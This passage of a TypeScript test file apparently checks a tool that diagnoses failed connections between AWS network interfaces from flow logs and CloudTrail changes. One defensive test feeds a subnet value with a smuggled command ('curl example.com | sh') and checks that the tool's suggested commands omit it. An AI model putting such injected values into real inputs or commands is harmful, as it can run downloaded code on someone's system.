    certainty: 'consistent-with',
    alternatives: ['reply-blocked-at-source'],
  },
  {
    row: '9',
    name: 'records of other connections are missing, too',
    evidence: evidence([sent(), arrived(), ...many(3, (n) => [replied({ clientPort: 41_000 + n, minute: n })])]),
    cause: 'no-answer',
    certainty: 'consistent-with',
  },
  {
    row: '17',
    name: 'nothing to B, but to another, and rejects of A are not logged',
    evidence: evidence([], { elsewhere, ...acceptOnly }),
    cause: 'calls-elsewhere',
    certainty: 'consistent-with',
    alternatives: ['blocked-at-source'],
  },
  {
    row: '18',
    name: 'both log rejects alone, and have none',
    evidence: evidence([], { interfaces: [logA, logB].map((log) => ({ ...log, accepts: false })) }),
    cause: 'cannot-tell',
    certainty: 'cannot-tell',
  },
  {
    row: '8',
    name: 'what passes requests on is no second interface of B',
    evidence: evidence([
      sent(),
      seenBy('eni-0eeeeeeeeeeeeeee1', 'ingress', false),
      seenBy('eni-0eeeeeeeeeeeeeee1', 'egress', true),
    ]),
    cause: 'lost-on-the-way',
    certainty: 'consistent-with',
    alternatives: ['dropped-by-transit-gateway'],
  },
  {
    row: '8',
    name: 'between two VPCs, a private NAT gateway may bring it to B as a client of its own',
    evidence: evidence([sent()], {
      interfaces: [logA, { ...logB, vpc: 'vpc-00000000000000002' }],
      others: { clients: [{ address: '10.0.2.99', called: at(3) }], targets: [] },
    }),
    cause: 'lost-on-the-way',
    certainty: 'consistent-with',
    alternatives: ['dropped-by-transit-gateway', 'no-answer', 'blocked-at-target', 'reply-blocked-at-target'],
  },
  {
    row: '8',
    name: 'between two VPCs by peering, where no gateway is',
    evidence: evidence([sent({ more: { traffic_path: '4' } })], {
      interfaces: [logA, { ...logB, vpc: 'vpc-00000000000000002' }],
      others: { clients: [{ address: '10.0.2.99', called: at(3) }], targets: [] },
    }),
    cause: 'lost-on-the-way',
    certainty: 'high',
  },
  {
    row: '8',
    name: 'of a port that is used again, an answer is recorded, but not that to the first request',
    evidence: evidence([
      sent({ minute: 0, flags: ['syn', 'fin'], packets: 10, bytes: 1000 }),
      answered({ minute: 5, flags: ['fin'], packets: 10, bytes: 1000 }),
      sent({ minute: 20, clientPort: 41_000 }),
    ]),
    cause: 'lost-on-the-way',
    certainty: 'consistent-with',
  },
  {
    row: '8',
    name: 'of a port that is used again, each request has its answer',
    evidence: evidence([
      sent({ minute: 0, flags: ['syn', 'fin'], packets: 10, bytes: 1000 }),
      answered({ minute: 1, packets: 10, bytes: 1000 }),
      sent({ minute: 20, clientPort: 41_000 }),
    ]),
    cause: 'lost-on-the-way',
    certainty: 'high',
  },
  {
    row: '1',
    name: 'UDP, of which AWS writes no flags, is rejected at B',
    evidence: evidence([sent, arrived].map((leg) => leg({ protocol: '17', flags: [], reject: leg === arrived }))),
    cause: 'blocked-at-target',
    certainty: 'high',
  },
  {
    row: '8',
    name: 'the newest connections fail, whose records may be incomplete',
    evidence: evidence(
      [...calls(5), ...[56, 57, 58, 59].map((minute) => sent({ minute, clientPort: 42_000 + minute }))],
      { interfaces: [logA, logB].map((one) => ({ ...one, newest: at(70) })) },
    ),
    cause: 'lost-on-the-way',
    certainty: 'consistent-with',
  },
  {
    row: '9',
    name: 'records that are still to come do not make the others doubtful',
    evidence: evidence([
      ...many(2, (minute) => [sent, arrived].map((leg) => leg({ minute, clientPort: 43_000 + minute }))),
      replied({ minute: 66, clientPort: 44_000 }),
    ]),
    cause: 'no-answer',
    certainty: 'high',
  },
  {
    row: '',
    name: 'a few late packets behind connections that both sides have ended',
    evidence: evidence(
      many(8, (minute) => {
        const ended = good({ minute, clientPort: 40_000 + minute, flags: ['syn-ack', 'fin'] })
        const late = arrived({ minute, seconds: 50, clientPort: 40_000 + minute, flags: ['fin'], reject: true })
        return minute === 10 ? [...ended, late] : ended
      }),
    ),
    cause: 'no-fault',
    certainty: 'consistent-with',
    alternatives: ['slow'],
  },
  {
    row: '',
    name: 'one connection that goes on is no end of calls',
    evidence: evidence(
      [...calls(5), ...many(12, (minute) => [sent, answered].map((leg) => leg({ minute, flags: [], packets: 90 })))],
      { elsewhere: [sent({ target: '10.0.2.99', minute: 40, clientPort: 41_000 })] },
    ),
    cause: 'no-fault',
    certainty: 'consistent-with',
    alternatives: ['slow'],
  },
  {
    row: '',
    name: 'all is well, as far as B alone shows',
    evidence: evidence(
      many(3, (minute) => ended(minute, 40_000 + minute)),
      bAlone,
    ),
    cause: 'no-fault',
    certainty: 'consistent-with',
    alternatives: ['slow', 'reset-by-middlebox', 'late-packets', 'mtu'],
  },
  {
    row: '',
    name: 'all is well, as far as A alone shows',
    evidence: evidence([sent(), answered()], aAlone),
    cause: 'no-fault',
    certainty: 'consistent-with',
    alternatives: ['slow', 'late-packets', 'mtu'],
  },
]

const verdictOf = (one: Evidence) => {
  const { cause, certainty, alternatives } = diagnose(one)
  return { cause, certainty, alternatives }
}

test.each(cases)('row $row: $name', ({ evidence, cause, certainty, alternatives = [] }) => {
  expect(verdictOf(evidence)).toEqual({ cause, certainty, alternatives })
})

const rows = [...table, ...wholeTable].map((row) => ({ row, name: `${row.row} ${row.cause} ${row.shows.name}` }))

test.each(rows)('the predicate of $name, inverted, is noticed', ({ row }) => {
  const { shows } = row
  const inverted = (...given: Parameters<typeof shows>) => !(shows as (...args: unknown[]) => boolean)(...given)
  Object.assign(row, { shows: inverted })
  try {
    const changed = cases.filter(({ evidence, cause, certainty, alternatives = [] }) => {
      const verdict = tried(evidence)
      return JSON.stringify(verdict) !== JSON.stringify({ cause, certainty, alternatives })
    })
    expect(changed.length).toBeGreaterThan(0)
  } finally {
    Object.assign(row, { shows })
  }
})

/** The last row holds always: inverted, no row is left. */
function tried(one: Evidence) {
  try {
    return verdictOf(one)
  } catch {
    return undefined
  }
}

describe('what comes with it', () => {
  const block = evidence([
    ...good({ minute: 1 }),
    ...many(3, (minute) => [
      sent({ minute: 10 + minute, clientPort: 40_010 + minute }),
      arrived({ minute: 10 + minute, clientPort: 40_010 + minute, reject: true }),
    ]),
  ])

  test('the onset, how many failed, the records whole', () => {
    expect(diagnose(block)).toMatchObject({ onset: at(10), tries: { all: 4, failed: 3 }, completeUntil: at(65) })
    expect(diagnose(block).evidence).toContain(block.flows[4])
  })

  test('the reset is among the records, however many a connection had before', () => {
    const before = Array.from({ length: 40 }, (_, minute) =>
      good({ minute, seconds: 59, packets: 50, bytes: 20_000, ...(minute > 0 && { flags: [] }) }),
    ).flat()
    const resets = [replied, answered].map((leg) => leg({ minute: 41, flags: ['rst'] }))
    const { cause, evidence: shown } = diagnose(evidence([...before, ...resets]))
    expect(cause).toBe('reset-by-target')
    expect(shown).toEqual(expect.arrayContaining(resets))
  })

  test('of others, what they called and who answered since then', () => {
    const calls = [
      { address: '10.0.1.11', called: at(20), answered: at(20) },
      { address: '10.0.1.12', called: at(20), answered: at(9) },
      { address: '10.0.1.13', called: at(20) },
      { address: '10.0.1.14', called: at(9), answered: at(9) },
    ]
    const { others } = diagnose({ ...block, others: { clients: calls, targets: calls.slice(3) } })
    expect(others).toEqual({ clients: { seen: 3, answered: 1 }, targets: { seen: 0, answered: 0 } })
  })

  test('of rejected traffic alone, an end that was rejected shows nothing, data does', () => {
    const interfaces = [logA, logB].map((log) => ({ ...log, accepts: false }))
    const end = answered({ minute: 5, packets: 1, clientPort: 50_000, flags: ['fin'], reject: true })
    const data = answered({ minute: 30, packets: 8, bytes: 6016, flags: [], reject: true })
    expect(diagnose(evidence([end], { interfaces })).cause).toBe('cannot-tell')
    const { cause, onset } = diagnose(evidence([end, data], { interfaces }))
    expect({ cause, onset }).toEqual({ cause: 'late-packets', onset: at(30) })
  })

  test('without flags, one in ten has a small packet behind data', () => {
    const late = (minute: number, clientPort: number) => [
      ...good({ minute, packets: 20, bytes: 9000, flags: undefined, clientPort }),
      answered({ minute, seconds: 5, packets: 1, clientPort, flags: undefined, reject: true }),
    ]
    const many = Array.from({ length: 40 }, (_, n) => good({ minute: n, flags: undefined, clientPort: 41_000 + n }))
    const all = [...many.flat(), ...[5, 15, 25].flatMap((minute) => late(minute, 50_000 + minute))]
    expect(diagnose(evidence(all)).cause).toBe('no-fault')
  })

  test('packets behind orderly ends do not count where others are missed', () => {
    const { cause, onset, tries } = diagnose(
      evidence([
        ...ended(5, 50_000),
        answered({ minute: 5, seconds: 30, packets: 1, clientPort: 50_000, flags: ['fin'], reject: true }),
        ...good({ minute: 10 }),
        answered({ minute: 30, flags: [], reject: true }),
        ...good({ minute: 40, clientPort: 51_000 }),
      ]),
    )
    expect({ cause, onset, failed: tries.failed }).toEqual({ cause: 'late-packets', onset: at(30), failed: 1 })
  })

  test('of two faults one after the other, the later', () => {
    const early = many(4, (minute) => [
      sent({ minute, clientPort: 40_100 + minute }),
      arrived({ minute, clientPort: 40_100 + minute }),
    ])
    const late = many(4, (minute) => [sent({ minute: 25 + minute, clientPort: 40_200 + minute })])
    expect(verdictOf(evidence([...early, ...late]))).toMatchObject({ cause: 'lost-on-the-way' })
    expect(verdictOf(evidence(early))).toMatchObject({ cause: 'no-answer' })
  })

  test('one lost connection of a hundred is no fault, one of ten is', () => {
    const among = (count: number) =>
      evidence([
        ...many(count, (n) => good({ minute: 1, seconds: n % 50, clientPort: 50_000 + n })),
        sent({ minute: 0 }),
      ])
    expect(diagnose(among(100))).toMatchObject({ cause: 'no-fault', sentence: expect.stringContaining('too few') })
    expect(diagnose(among(10)).cause).toBe('lost-on-the-way')
  })

  test('a RST with nothing before it is neither an answer nor a refusal', () => {
    const alone = replied({ flags: ['rst'], packets: 1, bytes: 40 })
    expect(diagnose(evidence([alone], bAlone)).cause).toBe('cannot-tell')
  })

  test('three are one, of however many', () => {
    const among = (lost: number) =>
      evidence([
        ...many(lost, (n) => [sent({ minute: 0, clientPort: 49_000 + n })]),
        ...Array.from({ length: 200 }, (_, n) => good({ minute: 1, seconds: n % 50, clientPort: 50_000 + n })).flat(),
      ])
    expect([2, 3].map((lost) => diagnose(among(lost)).cause)).toEqual(['no-fault', 'lost-on-the-way'])
  })

  test('what is ruled out, and by what', () => {
    expect(diagnose(block).ruledOut).toEqual(
      expect.arrayContaining([
        { cause: 'blocked-at-source', by: `its request was accepted at ${logA.id} in 3 of 3 tries` },
        { cause: 'public-access-blocked', by: 'both addresses are private: no internet gateway is between' },
      ]),
    )
    expect(diagnose(block).ruledOut.map(({ cause }) => cause)).not.toContain('blocked-at-target')
  })

  test('logs of accepted traffic alone are said first', () => {
    const [first] = diagnose(evidence([sent()], acceptOnly)).cannotTell
    expect(first).toEqual({
      what: `whether A's interface rejects: ${logA.id} has no REJECT record, so its flow log may be of accepted traffic alone`,
      missing: `a flow log of traffic type ALL for ${logA.id}`,
    })
  })

  test('logs of rejected traffic alone, too', () => {
    const interfaces = [logA, { ...logB, accepts: false }]
    expect(diagnose(evidence([sent()], { interfaces })).cannotTell[0]).toEqual({
      what: `what B's interface accepts: ${logB.id} has no ACCEPT record, so its flow log may be of rejected traffic alone`,
      missing: `a flow log of traffic type ALL for ${logB.id}`,
    })
  })

  test('a missing side, missing fields, missing changes', () => {
    const what = diagnose(evidence([sent(bare)], aAlone)).cannotTell.map(({ missing }) => missing)
    expect(what).toEqual([
      `a flow log of the interface of ${b}`,
      expect.stringContaining('tcp-flags in the flow log'),
      'reject-reason in the flow log, or a record that has one',
      "CloudTrail's management events",
    ])
  })

  test('that rejects of neighbours are taken for those of the interface is assumed', () => {
    const { assumptions } = diagnose(
      evidence([sent()], { interfaces: [logA, quietB, neighbour({ subnet: logB.subnet! })] }),
    )
    expect(assumptions).toContain(
      `rejects of ${logB.id} would be logged, as others of its subnet are: it has none itself`,
    )
  })

  test('of what cannot bring it about, what is of the interface counts as much as what can and names others', () => {
    const made = (minute: number) => change('CreateNetworkInterface', minute, { networkInterfaceId: eniB })
    const entry = change('CreateNetworkAclEntry', 8, { networkAclId: 'acl-00000000000000001' })
    const eventsOf = (minute: number) =>
      diagnose({ ...block, changes: [made(minute), entry] }).changes.map(({ event }) => event)
    expect(eventsOf(5)).toEqual(['CreateNetworkAclEntry', 'CreateNetworkInterface'])
    expect(eventsOf(9)).toEqual(['CreateNetworkInterface', 'CreateNetworkAclEntry'])
  })

  test('the changes before, the nearest first, refused ones and other ports not', () => {
    const rule = (toPort: number) => ({
      groupId: 'sg-00000000000000001',
      ipPermissions: { items: [{ fromPort: toPort, toPort }] },
    })
    const changes = [
      change('RevokeSecurityGroupIngress', 8, rule(port)),
      change('ModifyNetworkInterfaceAttribute', 5, { networkInterfaceId: eniB }),
      change('AuthorizeSecurityGroupIngress', 9, rule(443)),
      change('RevokeSecurityGroupIngress', 9, rule(port), { error_code: 'Client.UnauthorizedOperation' }),
      change('DescribeInstances', 9, {}, { read_only: true }),
      change('CreateTags', 9, { resourcesSet: { items: [{ resourceId: eniB }] } }),
      change('RevokeSecurityGroupIngress', 50, rule(port)),
    ]
    expect(diagnose({ ...block, changes }).changes).toEqual([
      {
        time: at(5),
        event: 'ModifyNetworkInterfaceAttribute',
        eventId: 'event-ModifyNetworkInterfaceAttribute',
        by: 'ci-deploy',
        resource: eniB,
        secondsBefore: 300,
      },
      {
        time: at(8),
        event: 'RevokeSecurityGroupIngress',
        eventId: 'event-RevokeSecurityGroupIngress',
        by: 'ci-deploy',
        resource: 'sg-00000000000000001',
        secondsBefore: 120,
      },
    ])
  })

  test('in one subnet it is the security group', () => {
    const interfaces = [logA, { ...logB, subnet: logA.subnet! }]
    expect(diagnose({ ...block, interfaces }).sentence).toContain('in one subnet, where network ACLs do not apply')
  })

  test('no command holds what has not the form of an id', () => {
    const interfaces = [logA, { ...logB, subnet: 'subnet-1; curl example.com | sh' }]
    const { next } = diagnose({ ...block, interfaces })
    expect(next.join('\n')).toContain('Values=<subnet of B>')
    expect(next.join('\n')).not.toContain('curl')
  })

  test('the port that most connections go to, where none is asked', () => {
    const { port: _, ...anyPort } = pair
    expect(diagnose({ ...block, pair: anyPort }).assumptions).toContain(`port ${port}, to which most connections go`)
  })
})

test.each(cases)('with evidence taken away from "$name", certainty does not rise', ({ evidence: one, certainty }) => {
  const without = (id: string): Evidence => ({
    ...one,
    flows: one.flows.filter(({ aws }) => (aws as { vpcflow: { interface_id: string } }).vpcflow.interface_id !== id),
    interfaces: one.interfaces.filter((log) => log.id !== id),
  })
  const v2 = { ...one, flows: one.flows.map(asVersion2) }
  const less: Evidence[] = [
    without(logA.id),
    without(logB.id),
    v2,
    { ...one, fields: [] },
    { ...one, transit: [], changes: [] },
  ]
  for (const fewer of less)
    expect(certainties.indexOf(diagnose(fewer).certainty)).toBeGreaterThanOrEqual(certainties.indexOf(certainty))
})

function asVersion2({ aws, network, ...document }: LogDocument): LogDocument {
  const { interface_id } = (aws as { vpcflow: { interface_id: string } }).vpcflow
  const { direction: _, ...fewer } = network as { direction: string }
  return { ...document, network: fewer, aws: { vpcflow: { interface_id } } }
}

test('the client is the one that is asked about', () => {
  expect(diagnose(evidence([sent({ client: '10.0.1.11' })])).tries.all).toBe(0)
  expect(a).not.toBe('10.0.1.11')
})
